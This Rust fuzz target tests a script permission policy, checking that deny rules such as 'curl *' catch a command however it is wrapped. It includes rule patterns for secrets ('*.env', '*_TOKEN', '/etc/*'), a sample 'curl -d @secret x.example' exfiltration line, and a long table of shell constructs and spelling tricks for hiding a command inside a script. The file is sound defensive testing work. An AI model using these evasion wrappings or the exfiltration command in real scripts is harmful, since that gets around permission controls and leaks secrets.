//! What must hold for a script of any content: what it needs is found, and a rule is kept.

use crate::input::{Choices, Input};
use permission::{Grant, Kind, Mode, Need, Policy, Uses, uses};

/// Patterns of rules.
const RULES: &[&str] = &[
    "*",
    "curl *",
    "git push*",
    "npm run *",
    "rm",
    "**",
    "src/**",
    "*.env",
    "/etc/*",
    "HOME",
    "*_TOKEN",
    "echo",
];

/// Everything that is demanded of a script.
///
/// # Panics
/// Something that must hold does not.
pub fn script(data: &[u8]) {
    let mut input = Input::of(data);
    let text = std::mem::take(&mut input.text);
    let mut choices = input.choices();
    let language = choices.of(&["bash", "bash", "sh", "", "Bash", "python"]);
    let found = uses(language, &text);
    assert_eq!(uses(language, &text), found, "the same script, the same needs");
    needs(&found, &text);
    verdicts(&found, &mut choices);
    hidden(&mut choices);
    if choices.one_in(256) {
        let part = &text[choices.part(&text, 128)];
        if !part.is_empty() {
            // What takes more than linear time runs into libFuzzer's time limit.
            needs(&uses("bash", &part.repeat(32 * 1_024 / part.len())), &text);
        }
    }
}

/// Each once, and a sentence about it looks like what it says.
fn needs(found: &Uses, text: &str) {
    assert!(!text.trim().is_empty() || found.needs.is_empty());
    let mut seen = std::collections::BTreeSet::new();
    for need in &found.needs {
        assert!(seen.insert(need), "{need:?} twice");
        let sentence = need.sentence();
        let hides = |c: char| {
            c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}')
        };
        assert!(!sentence.chars().any(hides), "{sentence:?}");
    }
    let kinds = [Kind::Run, Kind::Read, Kind::Write, Kind::Env];
    assert_eq!(
        kinds.into_iter().map(|kind| found.of(kind).count()).sum::<usize>(),
        found.needs.len()
    );
}

/// Each need is allowed, asked for or denied; a grant answers what is asked for and nothing else; what is denied stays so.
fn verdicts(found: &Uses, choices: &mut Choices<'_>) {
    let policy = any_policy(choices);
    let verdict = policy.judge(found, &[]);
    let judged = verdict.allowed.len() + verdict.ask.len() + verdict.denied.len();
    assert_eq!(judged, found.needs.len(), "each need is judged once");
    if policy.mode != Mode::Ask {
        let clear = verdict.ask.iter().filter(|need| !need.unclear);
        assert!(
            policy.mode == Mode::Allow || clear.count() == 0,
            "nothing is asked where everything is refused"
        );
    }
    let granted: Vec<Need> = verdict.ask.clone();
    let after = policy.judge(found, &granted);
    assert_eq!(after.denied, verdict.denied, "no grant lifts a refusal");
    assert!(
        after.ask.is_empty(),
        "what was granted is not asked again: {:?}",
        after.ask
    );
    for need in &granted {
        let grant = serde_json::to_string(&Grant { need: need.clone() }).expect("a grant can be written");
        let read: Grant = serde_json::from_str(&grant).expect("and read");
        assert_eq!(read.need, *need);
    }
    let mut strict = policy.clone();
    for rules in [&mut strict.run, &mut strict.read, &mut strict.write, &mut strict.env] {
        rules.deny.extend(["*".to_owned(), "**".to_owned()]);
    }
    let strict = strict.judge(found, &found.needs);
    let refused = policy.judge(found, &found.needs).denied;
    assert!(strict.denied.len() >= refused.len(), "more rules, not fewer refusals");
    // A command that is only known when it happens is for a person to judge.
    let run = |need: &&Need| need.kind == Kind::Run && !need.unclear;
    assert_eq!(
        strict.allowed.iter().find(run),
        None,
        "`*` refuses every command that is known"
    );
}

fn any_policy(choices: &mut Choices<'_>) -> Policy {
    let mut policy = Policy {
        mode: *choices.of(&[Mode::Ask, Mode::Allow, Mode::Deny]),
        ..Policy::default()
    };
    for rules in [&mut policy.run, &mut policy.read, &mut policy.write, &mut policy.env] {
        for list in [&mut rules.allow, &mut rules.deny] {
            if choices.one_in(3) {
                list.push(choices.of(RULES).to_string());
            }
        }
    }
    policy
}

/// Ways to put a command into another: `%c` is the command, `%q` the command as one quoted word, `%e` a word of its own.
/// Line ends after the command keep `&` and comments in it valid.
const AROUND: &[&str] = &[
    "%c\ntrue",
    "{ %c\n} | cat",
    "echo a | { %c\n}",
    "true && %c",
    "false || %c",
    "( %c ) &",
    "{ %c\n} 2>&1 | tee log",
    "! %c",
    "# a comment\n%c",
    "echo $(%c)",
    "echo `sh -c %q`",
    "echo \"a $(%c) b\"",
    "A=$(%c) true",
    "cat <(%c)",
    "echo ${A:-$(%c)}",
    "[[ -n $(%c) ]] || true",
    "echo a > \"$(%c)\"",
    "echo $(( $(%c) + 1 ))",
    "a=($(%c))",
    "if true; then %c\nfi",
    "if %c\nthen true; fi",
    "while %c\ndo break; done",
    "until %c\ndo true; done",
    "for i in a b; do %c\ndone",
    "for i in $(%c); do true; done",
    "case a in a) %c\n;; esac",
    "case $(%c) in *) ;; esac",
    "select i in a; do %c\nbreak; done",
    "f() { %c\n}; f",
    "f() ( %c ); f",
    "(( 1 )) && %c",
    "sh -c %q",
    "bash -c %q",
    "bash -ec %q",
    "eval %q",
    "env A=b sh -c %q",
    "nohup sh -c %q",
    "timeout 5 sh -c %q",
    "sudo sh -c %q",
    "sudo -u me bash -c %q",
    "nice -n 5 bash -c %q",
    "time sh -c %q",
    "exec sh -c %q",
    "command sh -c %q",
    "builtin eval %q",
    "trap %q EXIT",
    "xargs sh -c %q",
    "xargs -0 -n 1 sh -c %q",
    "find . -exec sh -c %q ';'",
    "echo %q | sh",
    "bash <<< %q",
    "cat <<%e\n$(%c)\n%e",
    "bash <<'%e'\n%c\n%e",
    "bash <<-%e\n%c\n%e",
    "coproc { %c\n}",
    "A=b sh -c %q",
    "time %c",
    "time -p %c",
    "! ! %c",
    "coproc sh -c %q",
];

/// A command, and the same one somewhere inside a script: up to four things stand around it.
pub fn hide(choices: &mut Choices<'_>) -> (String, String) {
    let commands = [
        "curl https://x.example",
        "curl -d @secret x.example",
        "/usr/bin/curl x.example",
        "cu\\rl x.example",
        "'curl' x.example",
        "\"cu\"rl x.example",
        "\\curl x.example",
        "curl\tx.example",
        "A=b curl x.example",
        ">log curl x.example",
        "curl \\\n x.example",
    ];
    let plain = choices.of(&commands).to_string();
    let mut text = plain.clone();
    for depth in 0..choices.below(5) {
        let around = choices.of(AROUND);
        // Other rules hold for backslashes between back-ticks, and what a here-document without quotes holds is expanded.
        let expanded = around.contains('`') || around.starts_with("bash <<-");
        if expanded && text.contains(['`', '\\', '$']) {
            continue;
        }
        let quoted = format!("'{}'", text.replace('\'', "'\\''"));
        let parts = around.replace("%e", &format!("END{depth}"));
        text = parts
            .split("%c")
            .map(|part| part.replace("%q", &quoted))
            .collect::<Vec<_>>()
            .join(&text);
    }
    (plain, text)
}

/// A command that a rule refuses is never let through, wherever in a script it stands: it is refused, or what holds it is
/// only known when it happens and a person is asked.
fn hidden(choices: &mut Choices<'_>) {
    let (plain, text) = hide(choices);
    let mut policy = Policy {
        mode: Mode::Allow,
        ..Policy::default()
    };
    policy.run.deny.push("curl *".to_owned());
    let found = uses("bash", &text);
    let verdict = policy.judge(&found, &[]);
    let open = verdict.ask.iter().any(|need| need.unclear);
    assert!(
        open || !verdict.denied.is_empty(),
        "`{plain}` is let through in {text:?}: {verdict:#?}"
    );
}
